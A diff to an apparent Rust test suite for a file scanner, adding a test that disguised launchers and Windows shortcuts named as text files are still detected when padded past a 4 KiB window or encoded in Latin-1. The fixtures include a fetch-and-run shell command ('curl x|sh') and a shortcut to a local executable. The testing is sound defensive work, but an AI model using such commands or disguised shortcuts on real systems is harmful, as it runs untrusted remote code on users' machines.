@@ -55,6 +55,40 @@ fn detected_by_content_whatever_the_name() {
 }
 
 #[test]
+fn a_launcher_padded_past_the_text_window_or_in_a_legacy_encoding() {
+    // Past the 4 KiB that text detection reads: many translated names, a
+    // long first section, a byte that is not UTF-8 (Latin-1 "é").
+    let names: String = (0..300)
+        .map(|i| format!("GenericName[x{i}]=Filtres bas\u{e9}s sur XSLT\n"))
+        .collect();
+    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        (
+            "readme.txt",
+            format!("[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n{names}").into_bytes(),
+            "desktop",
+        ),
+        (
+            "readme.txt",
+            format!(
+                "[{{000214A0-0000-0000-C000-000000000046}}]\r\nProp3=19,0\r\n{names}[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n"
+            )
+            .into_bytes(),
+            "url",
+        ),
+        (
+            "notes.txt",
+            b"[InternetShortcut]\r\nURL=file:///C:/x.exe\r\nComment=R\xe9sum\xe9\r\n".to_vec(),
+            "url",
+        ),
+    ];
+    for (name, body, ty) in cases {
+        let r = scan(name, body);
+        assert_eq!(true_type(&r), ty, "{:?}", keys(&r));
+        assert!(has_key(&r, "type.shortcut"), "{:?}", keys(&r));
+    }
+}
+
+#[test]
 fn a_shell_command_file_with_an_icon_on_a_share() {
     let r = scan(
         "@desktop.scf",
